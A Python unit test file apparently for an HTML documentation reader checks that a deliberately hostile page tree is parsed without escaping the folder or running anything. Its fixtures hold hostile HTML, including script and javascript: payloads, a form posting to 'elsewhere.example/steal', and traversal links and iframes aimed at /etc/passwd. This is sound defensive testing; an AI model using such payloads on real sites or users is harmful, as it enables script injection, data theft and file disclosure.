"""A tree that somebody has made to do harm: read within bounds, told of, and nothing else."""

import io
import tempfile
import unittest
from pathlib import Path

import msgspec

from tests.support.sources import write_files
from zarbek.core.gathering.tree_pages import find_trees, read_trees
from zarbek.core.material.folder import Folder
from zarbek.core.model.page import Page
from zarbek.core.sources.project_file import ProjectFile

MANY = 100_000
SPY = """<title>Spy</title><base target=_top><meta http-equiv=refresh content="0; url=javascript:alert(1)"><h1 id=spy onclick=alert(2)>Spy</h1>
<script>document.write('<a id=written href=written.html>x</a>')</script><form action="http://elsewhere.example/steal"><input name=word></form>
<iframe src="http://elsewhere.example/frame"></iframe><iframe src="file:///etc/passwd"></iframe><img src="/etc/passwd">
<a href="../../etc/passwd">up</a><a href="C:\\secret.txt">drive</a><a href="drawn.svg">drawn</a><object data="drawn.svg"></object>"""
FILES = {
    "index.html": "<title>All</title>" + "".join(f"<a href={name}>x</a>" for name in ("deep.html", "spy.html", "Case.html", "case.html", "deck.html")),
    "deep.html": "<div>" * MANY + "<b id=end>the end</b>", "spy.html": SPY,
    "large.html": "<p>" + "x" * (50 * 2**20), "picture.html": "\x89PNG\r\n\x1a\n\0\0\0\rIHDR", "Case.html": "<h1 id=a>A</h1>",
    "case.html": "<h1 id=b>B</h1>", "deck.html": "<h1 id=deck>Deck</h1><a href='Case.html#b'>no</a><a href='case.html#b'>yes</a>",
    "broken.html": "<table><p id=1><tr></b></i><a name='2'<a href='#1'><td id=3></table></div><!-- <p id=no>",
    "anchors.html": "".join(f"<p id=p{n}></p>" for n in range(MANY)), "same.html": "<p id=same>" * MANY,
    "drawn.svg": "<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>",
}  # fmt: skip


class Hostile(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        room = tempfile.TemporaryDirectory()
        cls.addClassCleanup(room.cleanup)
        root = write_files(Path(room.name, "tree"), FILES)
        Path(room.name, "secret.html").write_text("<h1 id=secret>secret</h1>")
        Path(root, "outside.html").symlink_to(Path(room.name, "secret.html"))
        Path(root, "again.html").symlink_to("deck.html")
        Path(root, "circle.html").symlink_to("circle.html")
        Path(root, "wrong.html").write_bytes(b"<meta charset=utf-8><h1 id=\xff\xfe>\xe9\xc3</h1>\x81\x00 ")
        Path(root, "lies.html").write_bytes("<meta charset=utf-16><h1 id=d\u00e9ck>Deck</h1>".encode("latin-1"))
        folder, spool = Folder(root), io.BytesIO()
        trees = find_trees(folder, ProjectFile(), [])
        cls.found = read_trees(folder, trees, spool, lambda done, total: None, is_guarded=True)
        cls.pages = {
            p.path: p for p in (msgspec.json.decode(line, type=Page) for line in spool.getvalue().splitlines())
        }
        cls.told = {(f.subject, f.rule): f.message for f in cls.found.findings}

    def test_what_is_no_page_is_told_and_left_out(self):
        for file, why in (("large.html", "larger than 16 MiB"), ("picture.html", "binary"), ("wrong.html", "binary")):
            with self.subTest(file):
                self.assertIn(why, self.told[file, "text/unreadable"])
                self.assertNotIn(file, self.pages)
        self.assertNotIn("outside.html", self.pages)
        self.assertNotIn("circle.html", self.pages)
        self.assertEqual(self.pages["again.html"].anchors, ["deck"])

    def test_what_nests_or_stands_without_end_is_read_as_far_as_it_makes_sense(self):
        self.assertIn("the end", self.pages["deep.html"].text)
        self.assertEqual(len(self.pages["anchors.html"].anchors), MANY)
        self.assertEqual(self.pages["same.html"].anchors, ["same"])
        self.assertIn("'same' stands more than once", self.told["same.html", "text/duplicate-anchor"])
        self.assertEqual(self.pages["broken.html"].anchors, ["1", "2", "3"])
        self.assertEqual(len(self.pages["lies.html"].anchors), 1)

    def test_nothing_leads_out_or_runs(self):
        spy = self.pages["spy.html"]
        self.assertEqual([(m.name, m.origin) for m in spy.mentions], [
            ("../../etc/passwd", "page"), ("drawn.svg", "page"), ("http://elsewhere.example/frame", "url"), ("drawn.svg", "asset"),
        ])  # fmt: skip
        self.assertEqual((spy.anchors, spy.moved_to, self.found.files), (["spy"], "", {"drawn.svg"}))

    def test_names_that_differ_in_case_are_two_pages(self):
        self.assertEqual((self.pages["Case.html"].anchors, self.pages["case.html"].anchors), (["a"], ["b"]))
        self.assertEqual([m.name for m in self.pages["deck.html"].mentions], ["Case.html#b", "case.html#b"])


if __name__ == "__main__":
    unittest.main()
